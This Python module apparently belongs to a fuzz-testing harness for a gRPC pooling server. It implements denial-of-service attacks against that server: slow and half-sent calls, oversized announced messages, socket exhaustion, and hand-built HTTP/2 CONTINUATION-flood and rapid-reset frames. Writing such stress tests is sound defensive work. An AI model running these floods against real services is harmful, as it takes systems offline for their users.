"""Calls whose message never comes, or comes slowly: they hold threads, places and announced bytes of the server."""

from __future__ import annotations

import socket
import struct
from contextlib import suppress
from functools import partial
from typing import TYPE_CHECKING

import grpc

from fuzz.attacks.attack import MIB, Target, attack, in_threads, repeat
from fuzz.attacks.messages import ANNOUNCED, COMPUTING, CONTROL, METHODS, POOL, POOL_STREAM, growing, stream_header
from fuzz.attacks.raw_peer import RawPeer, connect, framed
from poolrpc import MaxPool2d
from poolrpc._wire.arena_packets import SUFFIX
from poolrpc.v1 import pool_pb2

if TYPE_CHECKING:
    from threading import Event

HUGE = 530_000_000
"""Bytes of an announcement: just below the largest message that is allowed by default."""

PART = struct.pack(">BI", 0, 256 * 1024) + bytes(1000)
"""The prefix of a message of 256 KiB, and its beginning."""


@attack(variants=("tokens",))
def announced_without_token(target: Target, until: Event) -> None:
    """Announce 530 MB with calls that have no valid token (row C1: the announced bytes were never returned).

    Sent: complete calls of each method that computes, with `poolrpc-message-bytes` and no token or a wrong one.
    Aims at: the bytes in flight.
    """
    tokens = ((), (("authorization", "Bearer wrong"),))

    def call(channel: grpc.Channel, method: str) -> None:
        for token in tokens:
            metadata = ((ANNOUNCED, str(HUGE)), *token)
            try:
                channel.unary_unary(method)(b"", metadata=metadata, timeout=5)
            except grpc.RpcError as error:
                if error.code() is not grpc.StatusCode.UNAUTHENTICATED:  # type: ignore[attr-defined]  # a grpc.Call
                    raise

    with target.channel() as channel:
        in_threads(*(partial(repeat, until, partial(call, channel, method), 0.02) for method in COMPUTING))


@attack()
def announced_and_unsent(target: Target, until: Event) -> None:
    """Announce large messages and send nothing (row C6: five such calls kept everybody else out).

    Sent: HEADERS of Pool with `poolrpc-message-bytes` of 256 MiB, 128 MiB and so on down to 4 KiB, which together are
    all of the 512 MiB, and 530 MB for each other method that computes; again when the server has ended them.
    Aims at: the bytes in flight, which are announced before they arrive.
    """
    sizes = [2**power for power in range(28, 11, -1)]

    def hold() -> None:
        with RawPeer(target.address, timeout=0.5) as peer:
            for size in sizes:
                peer.open(POOL, (ANNOUNCED, str(size)), *target.headers)
            for method in COMPUTING[1:]:
                peer.open(method, (ANNOUNCED, str(HUGE)), *target.headers)
            peer.flush()
            _read_until(peer, until, len(sizes) + len(COMPUTING) - 1)

    in_threads(*[partial(repeat, until, hold)] * target.connections)


@attack()
def half_sent_messages(target: Target, until: Event) -> None:
    """Send the beginning of 300 messages, and no more (row C6: each held one of 256 call threads).

    Sent: HEADERS, a message's prefix and 1000 of its bytes, 300 times on a connection, over all methods.
    Aims at: call threads, and places among the calls in flight.
    """

    def hold() -> None:
        with RawPeer(target.address, timeout=0.5) as peer:
            for number in range(300):
                stream = peer.open(METHODS[number % len(METHODS)] if number % 2 else POOL, *target.headers)
                peer.send(stream, PART, end=False)
            _read_until(peer, until, 300)

    in_threads(*[partial(repeat, until, hold)] * target.connections)


@attack()
def headers_without_body(target: Target, until: Event) -> None:
    """Open calls of health and of other control methods without a body (row C5: four took health away permanently).

    Sent: HEADERS alone (244 bytes for four), eight times for each method that does not compute.
    Aims at: the few threads of health, readiness, GetServerInfo and reflection.
    """

    def hold() -> None:
        with RawPeer(target.address, timeout=0.5) as peer:
            for method in CONTROL * 8:
                peer.open(method, *target.headers)
            peer.flush()
            _read_until(peer, until, 8 * len(CONTROL))

    in_threads(*[partial(repeat, until, hold)] * target.connections)


@attack()
def slow_messages(target: Target, until: Event) -> None:
    """Send messages byte by byte (of the kind of C6: an idle limit alone would never end such a call).

    Sent: 64 Pool calls and 32 streams, each of which sends another byte of a promised 256 KiB every tenth of a second.
    Aims at: call threads and streams.
    """

    def trickle() -> None:
        with RawPeer(target.address, timeout=0.01) as peer:
            streams = [peer.open(POOL if number % 3 else POOL_STREAM, *target.headers) for number in range(96)]
            for stream in streams:
                peer.send(stream, PART, end=False)
            while not until.wait(0.1) and len(peer.ended) < len(streams):
                for stream in streams:
                    peer.send(stream, b"\0", end=False)
                _receive(peer)

    repeat(until, trickle)


@attack()
def idle_streams(target: Target, until: Event) -> None:
    """Open streams, send their header and then nothing (of the kind of C6: they held every stream for a minute).

    Sent: HEADERS and the header message of PoolStream, 16 times on a connection.
    Aims at: the number of streams.
    """
    header = framed(stream_header((1024, 1, 64, 64), [MaxPool2d(2)]))

    def hold() -> None:
        with RawPeer(target.address, timeout=0.5) as peer:
            for _ in range(16):
                peer.send(peer.open(POOL_STREAM, *target.headers), header, end=False)
            _read_until(peer, until, 16)

    in_threads(*[partial(repeat, until, hold)] * target.connections)


@attack()
def unfinished_headers(target: Target, until: Event) -> None:
    """Send headers that never end (of the kind of C6: CVE-2024-27316, "CONTINUATION flood").

    Sent: a HEADERS frame without END_HEADERS, then CONTINUATION frames of 16 KiB without it, again and again.
    Aims at: memory of the HTTP/2 layer, before there is a call.
    """
    settings = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + _frame(4, 0, 0, b"")
    field = b"\x00\x03abc" + b"\x7f\x81\x1f" + b"x" * 4096  # a literal field with a value of 4096 bytes, never indexed

    def flood() -> None:
        with connect(target.address, timeout=2) as peer:
            peer.sendall(settings + _frame(1, 0, 1, field))
            while not until.wait(0.01):
                peer.sendall(_frame(9, 0, 1, field * 3))

    in_threads(*[partial(repeat, until, flood)] * 4)


@attack()
def resets(target: Target, until: Event) -> None:
    """Open calls and reset them at once (of the kind of C6: CVE-2023-44487, "rapid reset").

    Sent: HEADERS of each method, half of them with a message that announces 64 MB, and RST_STREAM behind them.
    Aims at: what a call reserves before its thread has begun, and CPU.
    """

    def flood() -> None:
        with RawPeer(target.address, timeout=0.01) as peer:
            while not until.is_set():
                for method in METHODS:
                    stream = peer.open(method, (ANNOUNCED, "64000000"), *target.headers)
                    if method is POOL:
                        peer.send(stream, framed(growing()))
                    if stream not in peer.ended:
                        peer.reset(stream)
                peer.flush()
                _receive(peer)
                until.wait(0.05)

    in_threads(*[partial(repeat, until, flood)] * 2)


@attack(variants=("unix", "tokens", "workers"))
def silent_arena_connections(target: Target, until: Event) -> None:
    """Connect to the arena socket and send nothing, or take every arena (of the kind of C5, on the arena socket).

    Sent: 128 connections without a packet; 256 requests for arenas, which are held; packets that are not requests.
    Aims at: connections without an arena (64 at most), the number of arenas (256), and the log.
    """
    path = f"{target.path}{SUFFIX}"

    def connected() -> socket.socket:
        made = socket.socket(socket.AF_UNIX, socket.SOCK_SEQPACKET)
        made.settimeout(0.2)
        made.connect(path)
        return made

    def hold(count: int, packet: bytes) -> None:
        held: list[socket.socket] = []
        try:
            while len(held) < count and not until.is_set():
                held.append(connected())
                if packet:
                    held[-1].send(packet)
            until.wait(1)
        finally:
            for each in held:
                each.close()

    attach = pool_pb2.AttachRequest(size=MIB).SerializeToString()
    in_threads(
        *(partial(repeat, until, partial(hold, *each)) for each in ((128, b""), (256, attach), (8, b"\xff" * 64)))
    )


def _frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def _receive(peer: RawPeer) -> None:
    with suppress(TimeoutError):  # nothing yet
        peer.receive()


def _read_until(peer: RawPeer, until: Event, count: int) -> None:
    """Read a connection until the attack ends, or until the server has ended so many of its streams."""
    while not until.is_set() and len(peer.ended) < count:
        _receive(peer)
